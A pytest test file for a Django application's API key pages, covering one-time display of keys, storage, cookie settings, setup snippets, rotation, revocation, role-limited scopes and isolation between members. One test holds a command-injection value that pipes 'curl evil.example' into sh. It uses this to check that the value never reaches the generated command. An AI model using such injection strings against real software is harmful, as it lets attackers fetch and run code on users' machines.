"""The pages about keys: listed without their text, shown once, rotated, revoked, and nobody else's business."""

import html
import re
from datetime import timedelta
from typing import Any
from uuid import uuid4

import pytest
from django.contrib.sessions.models import Session
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts.authentication import BadKey, authenticate_key
from accounts.keys import revoke_key, rotate_key
from accounts.models import ApiKey, Role, User
from accounts.views.keys import COOKIE
from tests.factories import make_key, make_user

KEY_TEXT = re.compile(r"bm_[0-9A-Za-z]{38}")
ASKED = {"label": "Cursor on atlas", "scopes": ["read", "write"], "lifetime": ""}


@pytest.fixture
def ada(db: None) -> User:
    return make_user("ada")


@pytest.fixture
def browser(client: Client, ada: User) -> Client:
    client.force_login(ada)
    return client


def make(browser: Client, **changed: Any) -> Any:
    return browser.post(reverse("key-create"), {**ASKED, **changed})


def texts_on(page: Any) -> set[str]:
    return set(KEY_TEXT.findall(html.unescape(page.text)))


def everything_stored() -> str:
    """Every row of every table, with the sessions decoded."""
    with connection.cursor() as cursor:
        rows = []
        for table in connection.introspection.table_names(cursor):
            cursor.execute(f'SELECT t::text FROM "{table}" t')
            rows += [row for (row,) in cursor.fetchall()]
    return "\n".join([*rows, *(str(session.get_decoded()) for session in Session.objects.all())])


def test_a_key_is_shown_once(browser: Client) -> None:
    address = make(browser)["Location"]
    browser.get(address)

    again = browser.get(address)

    assert texts_on(again) == set()
    assert "was shown once and cannot be shown again" in again.text
    assert "Waiting for the first call" in again.text


def test_the_text_of_a_key_is_stored_nowhere(browser: Client) -> None:
    made = make(browser)
    before_it_was_shown = everything_stored()

    (text,) = texts_on(browser.get(made["Location"]))

    assert ApiKey.objects.get().prefix in before_it_was_shown
    assert text not in before_it_was_shown
    assert text not in everything_stored()


def test_the_text_waits_where_only_its_page_and_no_script_can_read_it(browser: Client) -> None:
    made = make(browser)

    cookie = made.cookies[COOKIE]

    assert cookie["path"] == reverse("key-new", args=[ApiKey.objects.get().pk])
    assert cookie["httponly"]
    assert cookie["samesite"] == "Strict"
    assert int(cookie["max-age"]) <= 300
    assert "bm_" not in made["Location"]


def test_the_snippets_of_a_new_key_hold_the_key_and_the_public_address(browser: Client, settings: Any) -> None:
    settings.PUBLIC_URL = "https://mind.example.com"

    shown = browser.get(make(browser, toolsets=["core", "notes"])["Location"])

    (text,) = texts_on(shown)
    page = html.unescape(shown.text)
    assert f'--header "Authorization: Bearer {text}"' in page
    assert "https://mind.example.com/mcp?toolsets=core,notes" in page


def test_nothing_from_an_address_gets_into_a_command_to_paste(browser: Client) -> None:
    address = make(browser)["Location"]

    shown = browser.get(address, {"toolsets": 'core"; curl evil.example | sh #', "client": "claude-code"})

    commands = "".join(re.findall(r"<code>(.*?)</code>", shown.text, re.DOTALL))
    assert "claude mcp add" in commands
    assert "evil" not in commands


def test_a_cookie_cannot_show_the_text_of_another_key(browser: Client, ada: User) -> None:
    mine, other = make_key(ada).key, make_key()
    page = reverse("key-new", args=[mine.pk])
    browser.cookies.load({COOKIE: other.text})

    shown = browser.get(page)

    assert other.text not in shown.text


def test_once_an_agent_has_called_its_page_says_so(browser: Client) -> None:
    address = make(browser)["Location"]
    (text,) = texts_on(browser.get(address))
    authenticate_key(text, client_name="cursor-vscode", client_version="1.9", host="atlas")

    page = browser.get(address)

    assert "connected" in page.text
    assert "cursor-vscode 1.9 on atlas" in page.text


def test_states_are_told_in_words(browser: Client, ada: User) -> None:
    revoke_key(make_key(ada, label="One").key)
    expired = make_key(ada, label="Two", expires_at=timezone.now() + timedelta(days=1)).key
    ApiKey.objects.filter(pk=expired.pk).update(expires_at=timezone.now() - timedelta(days=1))
    rotate_key(make_key(ada, label="Three").key)

    working, ended = browser.get(reverse("keys")), browser.get(reverse("keys"), {"show": "ended"})

    assert "replaced, still works" in working.text
    assert "expired" in ended.text
    assert "revoked" in ended.text


@pytest.mark.parametrize(("days", "tone"), [(2, "warning"), (10, "info"), (20, None)])
def test_a_key_that_ends_soon_is_announced(browser: Client, ada: User, days: int, tone: str | None) -> None:
    make_key(ada, label="Reports", expires_at=timezone.now() + timedelta(days=days, hours=1))

    page = browser.get(reverse("keys"))

    assert (f"stops working in {days} days" in page.text) == bool(tone)
    assert (f'data-tone="{tone}"' in page.text) == bool(tone)


def test_whoever_still_has_a_replaced_key_is_named(browser: Client, ada: User) -> None:
    new = make_key(ada, label="Build server")
    authenticate_key(new.text, client_name="gemini-cli", host="build-7")
    rotate_key(new.key)

    page = browser.get(reverse("keys"))

    assert "was replaced and stops working in 23 hours" in page.text
    assert "by gemini-cli on build-7" in page.text


def test_the_number_of_queries_does_not_grow_with_the_keys(browser, ada, django_assert_max_num_queries):
    for _ in range(20):
        rotate_key(make_key(ada).key)
    browser.get(reverse("keys"))  # notes once a minute that she is here

    with django_assert_max_num_queries(12):
        browser.get(reverse("keys"))


@pytest.mark.parametrize("label", ["", "   ", "two\u200blines", "a\x00b", "x" * 201])
def test_a_label_that_nobody_can_read_is_refused(browser: Client, label: str) -> None:
    page = make(browser, label=label)

    assert page.status_code == 422
    assert ApiKey.objects.count() == 0


@pytest.mark.parametrize(
    ("role", "offered"),
    [
        (Role.MEMBER, ["read", "write"]),
        (Role.CURATOR, ["read", "write", "curate"]),
        (Role.ADMIN, ["read", "write", "curate", "admin"]),
    ],
)
def test_nobody_is_offered_more_than_their_role_permits(client, db, role, offered):
    client.force_login(make_user(role=role))

    form = client.get(reverse("key-create")).context["form"]

    assert [name for name, _ in form.fields["scopes"].choices] == offered


def test_a_member_cannot_make_an_admins_key(browser: Client) -> None:
    page = make(browser, scopes=["read", "admin"])

    assert page.status_code == 422
    assert ApiKey.objects.count() == 0


def test_rotating_without_overlap_ends_the_old_key_at_once(browser: Client, ada: User) -> None:
    old = make_key(ada)

    browser.post(reverse("key-rotate", args=[old.key.pk]), {"overlap": "0"})

    with pytest.raises(BadKey):
        authenticate_key(old.text)


def test_rotating_asks_how_long_the_old_key_works_on(browser: Client, ada: User) -> None:
    page = reverse("key-rotate", args=[make_key(ada).key.pk])

    asked, refused = browser.get(page), browser.post(page, {"overlap": "17"})

    assert "The old key" in asked.text
    assert refused.status_code == 422
    assert ApiKey.objects.count() == 1


def test_a_key_that_was_rotated_meanwhile_is_told(browser: Client, ada: User) -> None:
    key = make_key(ada).key
    rotate_key(key)

    page = browser.post(reverse("key-rotate", args=[key.pk]), {"overlap": "24"})

    assert page.status_code == 409
    assert "This key is ending" in page.text
    assert reverse("key-create") in page.text


def test_revoking_asks_first_and_then_works_at_once(browser: Client, ada: User) -> None:
    new = make_key(ada, label="Laptop")
    page = reverse("key-revoke", args=[new.key.pk])

    asked = browser.get(page)
    still_works = authenticate_key(new.text)
    told = browser.post(page, follow=True)

    assert "Revoke Laptop?" in asked.text
    assert still_works.user == ada
    assert "is revoked and opens nothing any more" in told.text
    with pytest.raises(BadKey):
        authenticate_key(new.text)


@pytest.mark.parametrize("page", ["key-new", "key-rotate", "key-revoke"])
@pytest.mark.parametrize("method", ["get", "post"])
def test_another_members_key_answers_like_one_that_does_not_exist(browser: Client, page: str, method: str) -> None:
    foreign = make_key().key
    ask = getattr(browser, method)

    theirs, nobodys = ask(reverse(page, args=[foreign.pk])), ask(reverse(page, args=[uuid4()]))

    assert theirs.status_code == nobodys.status_code
    assert theirs.status_code in {404, 405}
    assert foreign.prefix not in theirs.text
    foreign.refresh_from_db()
    assert foreign.state == "active"


def test_a_member_sees_only_their_own_keys(browser: Client) -> None:
    foreign = make_key(label="Secret project").key

    pages = [browser.get(reverse("keys"), {"show": show}) for show in ("", "ended", "everyone")]

    assert [page.status_code for page in pages] == [200, 200, 403]
    assert all(foreign.label not in page.text and foreign.prefix not in page.text for page in pages)


def test_an_admin_gets_nobody_elses_new_key(client: Client, db: None) -> None:
    client.force_login(make_user("root", role=Role.ADMIN))
    theirs = make_key(make_user("grace")).key

    page = client.post(reverse("key-rotate", args=[theirs.pk]), {"overlap": "24"})

    assert page.status_code == 404
    assert ApiKey.objects.count() == 1


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("role", "asked", "given"), [("member", 60, 60), ("member", 6000, None), ("admin", 6000, 6000)]
)
def test_only_admins_give_a_key_more_than_everybody_has(client, settings, role, asked, given):
    settings.RATE_LIMIT_PER_MINUTE = 600
    user = make_user(role=role)
    client.force_login(user)

    page = client.post(reverse("key-create"), {"label": "Bot", "scopes": ["read"], "per_minute": asked})

    assert [key.per_minute for key in user.keys.all()] == ([given] if given else [])
    assert given or "Give 1 to 600, or nothing. 6,000 was given." in page.text
    assert not given or f"{given:,} in a minute" in client.get(reverse("keys")).text
